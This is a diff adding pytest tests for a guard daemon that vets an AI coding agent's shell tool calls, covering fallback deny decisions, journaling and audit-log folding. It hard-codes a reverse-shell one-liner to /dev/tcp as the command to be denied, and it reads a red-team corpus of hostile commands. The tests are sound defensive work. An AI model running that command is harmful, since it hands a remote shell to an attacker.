@@ -1,0 +1,247 @@
+"""The hook's store-less fallback (`bastion.engine_fallback`): while the daemon it started
+comes up, it answers alone only a deny an empty memory warrants, journals it
+(`record/wal`), and the daemon folds the journal into the log exactly once.
+
+Real engine, policies, SQLite store and hook processes (both clients); nothing mocked.
+"""
+
+from __future__ import annotations
+
+import gzip
+import itertools
+import json
+import os
+import subprocess
+import sys
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+from typer.testing import CliRunner
+
+from bastion.cli.audit_cmd import app as audit_app
+from bastion.config import Home
+from bastion.daemon import build_engine
+from bastion.engine_fallback import decide_fast, fallback_engine
+from bastion.record.wal import EventJournal
+from bastion.store import Store
+
+BIN = Path(sys.executable).parent
+SHELL = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
+
+
+def payload(command: str, session: str = "fb-1", call: str = "toolu_fb1") -> bytes:
+    return json.dumps(
+        {
+            "session_id": session,
+            "transcript_path": "/t.jsonl",
+            "cwd": "/tmp",
+            "permission_mode": "default",
+            "hook_event_name": "PreToolUse",
+            "tool_name": "Bash",
+            "tool_input": {"command": command, "description": "x"},
+            "tool_use_id": call,
+        }
+    ).encode()
+
+
+def logged(home: Home, session: str) -> list[dict[str, Any]]:
+    store = Store(home.database_url)
+    try:
+        return store.events(session)
+    finally:
+        store.close()
+
+
+def test_the_fallback_loads_neither_the_store_nor_the_log_signing(home: Path) -> None:
+    code = (
+        "import sys, json\n"
+        "from bastion.engine_fallback import decide_fast\n"
+        f"r = decide_fast({str(home)!r}, 'claude-code', {payload(SHELL)!r})\n"
+        "heavy = sorted({m for m in sys.modules if m.split('.')[0] in {'sqlalchemy', "
+        "'alembic', 'psycopg', 'cryptography'} or m.startswith('bastion.store')})\n"
+        "print(json.dumps([r is not None, heavy]))\n"
+    )
+    out = subprocess.run(
+        [sys.executable, "-c", code], capture_output=True, text=True, timeout=120, check=True
+    )
+    answered, heavy = json.loads(out.stdout)
+    assert answered and heavy == []
+
+
+def test_a_deny_is_answered_journaled_and_folded_once(home: Path) -> None:
+    h = Home.resolve(home).ensure()
+    reply = decide_fast(str(home), "claude-code", payload(SHELL))
+    assert reply is not None
+    code, out, _ = reply
+    assert code == 0 and json.loads(out)["hookSpecificOutput"]["permissionDecision"] == "deny"
+    journal = EventJournal.for_home(home)
+    assert [f.kind for f in journal.read().frames] == ["session", "events"]
+    # audit verify accounts for what waits in the journal
+    result = CliRunner().invoke(audit_app, ["verify", "--json", "--home", str(home)])
+    assert json.loads(result.stdout)["journal"]["pending"] == 2
+    engine = build_engine(h)  # the daemon's start folds it
+    engine.store.close()
+    assert journal.read().frames == []
+    build_engine(h).store.close()  # a second start adds nothing
+    rows = logged(h, "fb-1")
+    calls = [r for r in rows if r["tool_use_id"] == "toolu_fb1"]
+    assert len(calls) == 1 and calls[0]["decision"] == "deny"
+    assert [r["native_name"] for r in rows].count("SessionAttribution") == 1
+    result = CliRunner().invoke(audit_app, ["verify", "--json", "--home", str(home)])
+    report = json.loads(result.stdout)
+    assert result.exit_code == 0, report["problems"]
+    assert report["journal"]["pending"] == 0
+
+
+def test_what_memory_could_change_is_left_to_the_daemon(home: Path) -> None:
+    assert decide_fast(str(home), "claude-code", payload("ls -la")) is None
+    assert EventJournal.for_home(home).read().frames == []
+
+
+def test_the_fallback_decides_with_the_daemons_policy(home: Path) -> None:
+    h = Home.resolve(home).ensure()
+    daemon = build_engine(h)
+    try:
+        assert fallback_engine(h)[0].policy.hash == daemon.policy.hash
+        assert fallback_engine(h)[0].profile == daemon.profile
+    finally:
+        daemon.store.close()
+
+
+def test_the_fold_keeps_the_memory_of_a_session_the_store_knew(home: Path) -> None:
+    h = Home.resolve(home).ensure()
+    daemon = build_engine(h)
+    try:
+        daemon.handle("claude-code", payload("ls -la", call="toolu_0"))
+        daemon.set_mode("fb-1", "killed", "test kill", by="test")
+        before = daemon.store.load_state("fb-1")
+    finally:
+        daemon.store.close()
+    assert before is not None and before["mode"] == "killed"
+    assert decide_fast(str(home), "claude-code", payload(SHELL)) is not None
+    daemon = build_engine(h)
+    try:
+        after = daemon.store.load_state("fb-1")
+        session = daemon.store.session("fb-1", prefix=False)
+    finally:
+        daemon.store.close()
+    assert after == before  # the fallback's empty memory did not replace the saved one
+    assert session is not None and session["mode"] == "killed"
+    rows = logged(h, "fb-1")
+    assert [r["tool_use_id"] for r in rows].count("toolu_fb1") == 1
+    assert [r["native_name"] for r in rows].count("SessionAttribution") == 1
+
+
+def hook(client: Path, home: Path, data: bytes) -> subprocess.CompletedProcess[bytes]:
+    # The machine's load must not choose the path under test (recover.core_free).
+    env = {**os.environ, "BASTION_HOME": str(home), "BASTION_FALLBACK_FAST": "always"}
+    return subprocess.run(
+        [str(client), "claude-code"], input=data, capture_output=True, env=env, timeout=60
+    )
+
+
+def test_daemon_down_deny_through_the_hook_reaches_the_log_once(
+    hook_client: Path, home: Path
+) -> None:
+    try:
+        out = hook(hook_client, home, payload(SHELL))
+        assert out.returncode == 0, out.stderr
+        assert json.loads(out.stdout)["hookSpecificOutput"]["permissionDecision"] == "deny"
+        deadline = time.monotonic() + 30
+        while not (home / "daemon.sock").exists() and time.monotonic() < deadline:
+            time.sleep(0.1)
+        # Calls through the daemon: it folds what the fallback journaled after its start.
+        for n in range(3):
+            assert hook(hook_client, home, payload("ls", call=f"toolu_l{n}")).returncode == 0
+            time.sleep(0.6)
+    finally:
+        subprocess.run(
+            [str(BIN / "bastion"), "down", "--home", str(home)], capture_output=True, timeout=60
+        )
+    rows = logged(Home.resolve(home), "fb-1")
+    assert [r["tool_use_id"] for r in rows].count("toolu_fb1") == 1
+    assert EventJournal.for_home(home).read().frames == []
+
+
+def test_a_hook_finding_a_start_under_way_waits_instead_of_deciding(
+    hook_client: Path, home: Path
+) -> None:
+    # A daemon a hook started and left coming up: its pid is in the start lock file.
+    starting = subprocess.Popen(
+        [sys.executable, "-c", "import time; time.sleep(60)", "-m", "bastion.daemon"]
+    )
+    try:
+        (home / "daemon.start.lock").write_text(str(starting.pid))
+        env = {
+            **os.environ,
+            "BASTION_HOME": str(home),
+            "BASTION_START_WAIT": "1",
+            "BASTION_FALLBACK_FAST": "always",
+        }
+        out = subprocess.run(
+            [str(hook_client), "claude-code"],
+            input=payload(SHELL),
+            capture_output=True,
+            env=env,
+            timeout=60,
+        )
+    finally:
+        starting.kill()
+        starting.wait()
+    assert out.returncode == 2 and b"while one was starting" in out.stderr
+    assert not (home / "daemon.pid").exists()  # no second daemon was started
+    assert EventJournal.for_home(home).read().frames == []  # nor an engine built here
+
+
+def test_what_the_fallback_answers_alone_the_daemon_answers_alike(home: Path) -> None:
+    """Decision parity on a labelled corpus: every call the fallback would answer alone
+    (empty memory, no identity) is denied, or refused, by the daemon's engine with the
+    session's full memory too; every other call is left to the daemon."""
+    from test_store_support import need_env
+
+    from bastion.engine_fallback import answers_alone
+    from bastion.events import Decision
+
+    data = Path(need_env("BASTION_BENCH_DATA", "point it at the corpora (docs/benchmarks.md)"))
+    h = Home.resolve(home).ensure()
+    daemon = build_engine(h)
+    fallback, held = fallback_engine(h)
+    answered = deferred = 0
+    try:
+        with gzip.open(data / "redcode-exec-dev.jsonl.gz", "rb") as lines:
+            for line in itertools.islice(lines, 800):
+                session = json.loads(line)["session_id"]
+                fallback.forget(session)  # judged with an empty memory, as the fallback does
+                f_event, f_verdict, _ = fallback.handle("claude-code", line)
+                held.frames.clear()
+                _, d_verdict, _ = daemon.handle("claude-code", line)
+                if not answers_alone(f_event, f_verdict):
+                    deferred += 1
+                    continue
+                answered += 1
+                assert f_verdict is None or f_verdict.decision is Decision.DENY
+                assert (d_verdict is None) == (f_verdict is None)
+                assert d_verdict is None or d_verdict.decision is Decision.DENY, line[:300]
+    finally:
+        daemon.store.close()
+    assert answered > 50 and deferred > 0  # the corpus holds both kinds
+
+
+def test_the_fallbacks_rows_fold_into_postgresql(
+    home: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from test_store_support import postgres_schema_url
+
+    for url in postgres_schema_url():
+        monkeypatch.setenv("BASTION_DATABASE_URL", url)
+        assert decide_fast(str(home), "claude-code", payload(SHELL)) is not None
+        engine = build_engine(Home.resolve(home).ensure())  # folds at start
+        try:
+            rows = engine.store.events("fb-1")
+        finally:
+            engine.store.close()
+        assert [r["tool_use_id"] for r in rows].count("toolu_fb1") == 1
+        assert [r["native_name"] for r in rows].count("SessionAttribution") == 1
+        assert EventJournal.for_home(home).read().frames == []
